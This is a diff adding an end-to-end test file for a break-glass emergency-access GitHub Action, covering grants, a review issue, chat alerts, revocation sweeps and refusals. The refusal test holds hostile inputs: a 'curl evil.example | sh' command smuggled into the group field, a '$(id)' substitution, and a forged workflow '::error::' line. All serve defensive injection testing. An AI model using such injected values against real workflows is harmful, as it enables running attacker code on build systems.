@@ -1,0 +1,153 @@
+// Break-glass end to end: the bundled action started by workflow_dispatch as the runner starts it,
+// GitHub's run record in the twin, Entra in the twin, and the sweep that must keep the grant until its
+// end and remove it after. Every input is hostile somewhere here.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import { fileURLToPath } from 'node:url';
+import { commandLines, runAction } from '../../scripts/lib/actions-runner.ts';
+import { Scenario } from '../helpers/scenario.ts';
+import { CLIENT, TENANT, TOKEN } from '../../scripts/lib/world.ts';
+
+const CLI = fileURLToPath(new URL('../../dist/cli.js', import.meta.url));
+const iso = (ms: number) => new Date(ms).toISOString().replace(/\.\d{3}Z$/, 'Z');
+let nextRun = 9000;
+
+/** Dispatches the break-glass workflow as `actor`; GitHub records the run and then its outcome. */
+async function breakGlass(s: Scenario, actor: string, inputs: Record<string, string>, options: { run?: number; createdAt?: number; attempt?: number } = {}) {
+  const repo = s.twin.state.repos.get('acme/access')!;
+  const id = options.run ?? nextRun++;
+  const created = iso(options.createdAt ?? Date.now());
+  const existing = repo.workflowRuns.find((r) => r.id === id);
+  const record = existing ?? { workflow: 'access-break-glass.yml', id, status: 'in_progress' as const, conclusion: null, created_at: created, updated_at: created, event: 'workflow_dispatch' as const, title: `break-glass ${inputs.group} for ${inputs.duration} by ${actor}`, actor, head_branch: 'main', run_attempt: 1 };
+  if (existing) Object.assign(existing, { status: 'in_progress', conclusion: null, run_attempt: options.attempt ?? 2 });
+  else repo.workflowRuns.push(record);
+  const run = await runAction({
+    workspace: s.repo.dir,
+    inputs: { command: 'break-glass', 'github-token': TOKEN, 'tenant-id': TENANT, 'client-id': CLIENT, 'authority-host': s.twin.urls.authorityHost, 'graph-endpoint': s.twin.urls.graph, webhooks: `default slack ${s.twin.urls.hooks}/slack/incidents` },
+    eventName: 'workflow_dispatch',
+    event: { inputs, ref: 'refs/heads/main', repository: { name: 'access', full_name: 'acme/access', default_branch: 'main', owner: { login: 'acme' } }, sender: { login: actor } },
+    env: { ...s.twin.env(), GITHUB_REPOSITORY: 'acme/access', GITHUB_REF: 'refs/heads/main', GITHUB_RUN_ID: String(id), GITHUB_ACTOR: actor },
+  });
+  Object.assign(repo.workflowRuns.find((r) => r.id === id)!, { status: 'completed', conclusion: run.exitCode === 0 ? 'success' : 'failure', updated_at: iso(Date.now()) });
+  const out = run.outputs['break-glass'] ? (JSON.parse(run.outputs['break-glass']) as { granted: boolean; end?: string; issue?: number; reasons?: string[] }) : undefined;
+  return { run, id, out };
+}
+
+function sweepAt(s: Scenario, at: number): Promise<{ code: number | null; out: string; err: string }> {
+  const env = { ...s.twin.env(), PATH: process.env.PATH ?? '', HOME: s.repo.dir, GITHUB_TOKEN: TOKEN, GITHUB_REPOSITORY: 'acme/access', AZURE_TENANT_ID: TENANT, AZURE_CLIENT_ID: CLIENT, AZURE_CLIENT_SECRET: 'twin-client-secret' };
+  const child = spawn(process.execPath, [CLI, 'revoke', '--at', iso(at), '--authority-host', s.twin.urls.authorityHost, '--graph-endpoint', s.twin.urls.graph], { cwd: s.repo.dir, env });
+  let out = '';
+  let err = '';
+  child.stdout.on('data', (d: Buffer) => (out += d));
+  child.stderr.on('data', (d: Buffer) => (err += d));
+  return new Promise((resolve) => child.on('close', (code) => resolve({ code, out, err })));
+}
+
+const good = { group: 'k8s-prod-operators', duration: '30m', ticket: 'INC-77', reason: 'The API servers are down; draining a broken node pool' };
+
+test('an allowed person gets the group at once, loudly, with a review issue; the sweep keeps it until its end and removes it after', async () => {
+  const s = await Scenario.begin();
+  try {
+    const { run, out } = await breakGlass(s, 'hubot', good);
+    assert.equal(run.exitCode, 0, run.stdout);
+    assert.equal(out?.granted, true);
+    assert.deepEqual(s.members('k8s-prod-operators'), ['hubot']);
+    assert.ok(run.annotations.some((a) => a.level === 'warning' && /^BREAK-GLASS: hubot is a member of k8s-prod-operators until \S+, without review\. Code owners review it in #\d+\.$/.test(a.message)));
+    assert.match(run.summary, /Break-glass access granted/);
+    const issue = s.twin.state.repos.get('acme/access')!.issues.get(out!.issue!)!;
+    assert.deepEqual(issue.labels, ['access-break-glass']);
+    assert.match(issue.title, /^Break-glass: hubot in k8s-prod-operators until /);
+    assert.match(issue.body, /a code owner of `requests\/k8s-prod-operators\/` \(@acme\/sre-leads\) other than hubot checks what was done/);
+    assert.ok(s.twin.state.hookMessages.some((m) => /^:rotating_light: \*BREAK-GLASS access granted\*: hubot granted themselves k8s-prod-operators/.test((m.body as { text: string }).text)), 'announced in chat');
+
+    const sweep = await s.revoke({ inputs: { dashboard: 'true' } });
+    assert.equal(sweep.exitCode, 0, sweep.stdout);
+    assert.deepEqual(s.members('k8s-prod-operators'), ['hubot'], 'the sweep keeps a break-glass grant in force');
+    const dashboard = s.twin.state.repos.get('acme/access')!.issues.get((JSON.parse(sweep.outputs.dashboard!) as { issue: number }).issue)!;
+    assert.match(dashboard.body, new RegExp(`### Break-glass awaiting review[\\s\\S]*\\| #${out!.issue} \\| hubot \\| k8s-prod-operators \\|`));
+    assert.match(dashboard.body, /\| k8s-prod-operators \| hubot \| [^|]+ UTC \| `break-glass run \d+` \|/, 'shown as holding access through break-glass');
+    const report = await s.report();
+    assert.match(report.summary, new RegExp(`### Break-glass[\\s\\S]*\\| #${out!.issue} \\| hubot \\| k8s-prod-operators \\| [^|]+ \\| \\*\\*no, unreviewed\\*\\* \\|`));
+    const after = await sweepAt(s, Date.parse(out!.end!) + 60_000);
+    assert.equal(after.code, 0, after.err);
+    assert.deepEqual(s.members('k8s-prod-operators'), [], 'and removes it after its end');
+  } finally {
+    await s.stop();
+  }
+});
+
+test('refused, with nothing granted and no issue: a person not allowed, a group without break-glass, too long, no ticket, hostile inputs', async () => {
+  const s = await Scenario.begin();
+  try {
+    const cases: [string, Record<string, string>, RegExp][] = [
+      ['octocat', good, /octocat may not break glass for k8s-prod-operators; its policy allows hubot, @acme\/sre-leads/],
+      ['hubot', { ...good, group: 'prod-db-admins' }, /prod-db-admins does not allow break-glass/],
+      ['hubot', { ...good, duration: '3h' }, /break-glass for k8s-prod-operators allows at most 1h/],
+      ['hubot', { ...good, ticket: '' }, /needs a ticket/],
+      ['hubot', { ...good, group: 'k8s-prod-operators; curl evil.example | sh' }, /is not in the policy/],
+      ['hubot', { ...good, duration: '$(id)', reason: 'x\n::error::forged\n' }, /is not a duration/],
+    ];
+    for (const [actor, inputs, why] of cases) {
+      const { run, out } = await breakGlass(s, actor, inputs);
+      assert.equal(run.exitCode, 1, `${actor} ${JSON.stringify(inputs)}`);
+      assert.equal(out?.granted, false);
+      assert.match(out!.reasons!.join('\n'), why);
+      assert.deepEqual(commandLines(run.stdout).filter((l) => /forged/.test(l)), []);
+    }
+    assert.deepEqual(s.members('k8s-prod-operators'), []);
+    assert.equal(s.twin.state.repos.get('acme/access')!.issues.size, 0);
+    // Those failed runs are records of nothing: the sweep covers nobody with them.
+    s.addMember('k8s-prod-operators', 'hubot');
+    await s.revoke();
+    assert.deepEqual(s.members('k8s-prod-operators'), []);
+  } finally {
+    await s.stop();
+  }
+});
+
+test('a re-run never extends access; a second use waits for review by a code owner other than the requester', async () => {
+  const s = await Scenario.begin();
+  try {
+    // A run first created 20 minutes ago, for 30 minutes: granted until then; re-run now, the end stays.
+    const created = Date.now() - 20 * 60_000;
+    const old = await breakGlass(s, 'hubot', good, { createdAt: created });
+    assert.equal(old.out?.granted, true, old.run.stdout);
+    assert.equal(old.out!.end, iso(created + 30 * 60_000));
+    const rerun = await breakGlass(s, 'hubot', good, { run: old.id, attempt: 2 });
+    assert.equal(rerun.out?.granted, true);
+    assert.equal(rerun.out!.end, old.out!.end, 'a re-run keeps the first attempt\'s end');
+    assert.equal(rerun.out!.issue, old.out!.issue, 'and its review issue');
+    // A run whose window has passed, re-run: nothing.
+    s.twin.state.repos.get('acme/access')!.workflowRuns.find((r) => r.id === old.id)!.created_at = iso(Date.now() - 40 * 60_000);
+    const late = await breakGlass(s, 'hubot', good, { run: old.id, attempt: 3 });
+    assert.equal(late.run.exitCode, 1);
+    assert.match(late.out!.reasons!.join(), /A re-run never extends break-glass access/);
+
+    const second = await breakGlass(s, 'hubot', good);
+    assert.match(second.out!.reasons!.join(), new RegExp(`your earlier break-glass for k8s-prod-operators \\(#${old.out!.issue}\\) has not been reviewed`));
+    const issue = s.twin.state.repos.get('acme/access')!.issues.get(old.out!.issue!)!;
+    Object.assign(issue, { state: 'closed', closed_by: 'hubot', state_reason: 'completed' });
+    assert.equal((await breakGlass(s, 'hubot', good)).out?.granted, false, 'closed by the requester is not a review');
+    Object.assign(issue, { closed_by: 'lead1' }); // a member of @acme/sre-leads, the folder's code owners
+    const third = await breakGlass(s, 'hubot', good);
+    assert.equal(third.out?.granted, true, third.run.stdout);
+  } finally {
+    await s.stop();
+  }
+});
+
+test('a run on another branch, or whose title names someone else, covers nobody', async () => {
+  const s = await Scenario.begin();
+  try {
+    const repo = s.twin.state.repos.get('acme/access')!;
+    const now = iso(Date.now());
+    repo.workflowRuns.push({ workflow: 'access-break-glass.yml', id: 1, status: 'completed', conclusion: 'success', created_at: now, updated_at: now, event: 'workflow_dispatch', title: 'break-glass k8s-prod-operators for 1h by hubot', actor: 'hubot', head_branch: 'feature' });
+    repo.workflowRuns.push({ workflow: 'access-break-glass.yml', id: 2, status: 'completed', conclusion: 'success', created_at: now, updated_at: now, event: 'workflow_dispatch', title: 'break-glass k8s-prod-operators for 1h by hubot', actor: 'octocat', head_branch: 'main' });
+    s.addMember('k8s-prod-operators', 'hubot');
+    await s.revoke();
+    assert.deepEqual(s.members('k8s-prod-operators'), []);
+  } finally {
+    await s.stop();
+  }
+});
